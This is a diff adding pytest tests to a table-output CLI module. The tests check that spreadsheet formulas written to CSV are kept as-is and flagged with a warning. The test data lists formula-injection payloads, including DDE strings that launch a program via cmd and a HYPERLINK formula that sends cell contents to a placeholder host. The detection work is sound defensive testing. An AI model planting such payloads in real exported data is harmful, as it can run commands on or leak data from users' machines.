@@ -1,4 +1,8 @@
+import csv
+import io
+
 import pyarrow.parquet as pq
+import pytest
 
 from sorb.cli.table_output import write_table
 from sorb.tables.arrow import cells
@@ -20,6 +24,42 @@ def test_csv_is_read_back_as_it_was(tmp_path):
 def test_parquet_is_written_if_the_file_is_called_so(tmp_path):
     write_table(COLUMNS, tmp_path / "out.parquet")
     assert pq.read_table(tmp_path / "out.parquet").to_pydict() == COLUMNS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://example.com?"&A1)',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "\t=WEBSERVICE(A1)",
+        "＝SUM(A1)",
+        "x;=cmd|' /C calc'!A0",
+    ],
+)
+def test_a_formula_is_told_and_kept(text, tmp_path, capsys):
+    write_table({"id": ["x", text]}, tmp_path / "out.csv")
+    written = csv.reader(io.StringIO((tmp_path / "out.csv").read_text("utf-8")))
+    assert list(written) == [["id"], ["x"], [text]]
+    assert "a spreadsheet may run" in capsys.readouterr().err
+
+
+def test_a_formula_may_be_the_name_of_a_column(capsys):
+    write_table({"=A(1)": ["x"]}, None)
+    assert "in column '=A(1)'" in capsys.readouterr().err
+
+
+def test_a_formula_is_only_data_in_parquet(tmp_path, capsys):
+    write_table({"id": ["=A(1)"]}, tmp_path / "out.parquet")
+    assert capsys.readouterr().err == ""
+
+
+@pytest.mark.parametrize("label", ["-1", "+", "-", "+/-", "-1.5e3", "@home", "=", "a=b(c)", "(-)"])
+def test_a_label_that_calls_nothing_is_no_formula(label, capsys):
+    write_table({"prediction": [label], "n": [-1.5]}, None)
+    assert capsys.readouterr().err == ""
 
 
 def test_without_a_file_csv_goes_to_standard_output(capsys):
